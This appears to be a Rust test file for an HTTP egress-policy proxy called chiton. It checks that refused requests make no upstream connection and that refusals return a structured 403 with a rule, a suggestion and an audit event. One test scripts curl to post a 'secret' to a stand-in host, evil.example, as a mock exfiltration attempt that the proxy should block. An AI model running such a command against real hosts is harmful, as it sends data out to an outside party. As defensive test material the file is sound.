//! For a refused request no byte of it reaches upstream, and no connection is made for it.

use chiton_tests::{World, http_policy};

#[test]
fn no_connection_is_made_for_a_refused_request() {
    let world = World::echo(&["api.example.com", "evil.example"]);
    let script = "for v in --http1.1 --http2; do for u in https://api.example.com/no https://evil.example/ok; do \
        curl -sS $v -d secret -o /dev/null -w '%{http_code} ' $u; done; done";
    let outcome = world.sh(&http_policy(&["{host: api.example.com, paths: [/ok]}"]), script).expect_success();
    assert_eq!(outcome.stdout, "403 403 403 403 ");
    assert_eq!(world.upstream.log().connections(), 0);
}

#[test]
fn a_refusal_says_what_why_and_what_to_do() {
    let world = World::echo(&["api.example.com"]);
    let script = "curl -sS -i https://api.example.com/repos/o/n";
    let rule = "{name: repos, host: api.example.com, paths: ['/repos/*']}";
    let outcome = world.sh(&http_policy(&[rule]), script).expect_success();
    let (head, body) = outcome.stdout.split_once("\r\n\r\n").expect("a response");
    let head = head.to_lowercase();
    assert!(head.contains(" 403") && head.contains("application/problem+json"), "{head}");
    assert!(head.contains("x-chiton-denied: path_not_allowed"), "{head}");
    let body: serde_json::Value = serde_json::from_str(body).expect("a problem");
    assert_eq!(body["type"], "https://chiton.internal/denied/path_not_allowed");
    assert_eq!(body["title"], "Denied by policy");
    assert_eq!(body["rule"], "repos");
    assert!(
        body["detail"].as_str().is_some_and(|d| d.contains("GET /repos/o/n") && d.contains("\"repos\"")),
        "{body}"
    );
    assert!(body["suggestion"].as_str().is_some_and(|s| s.contains("- host: api.example.com")), "{body}");
    let event = body["event"].as_str().expect("an event");
    assert!(world.chiton.audit(&[]).iter().any(|e| e["id"] == event && e["decision"] == "deny"), "{event}");
}
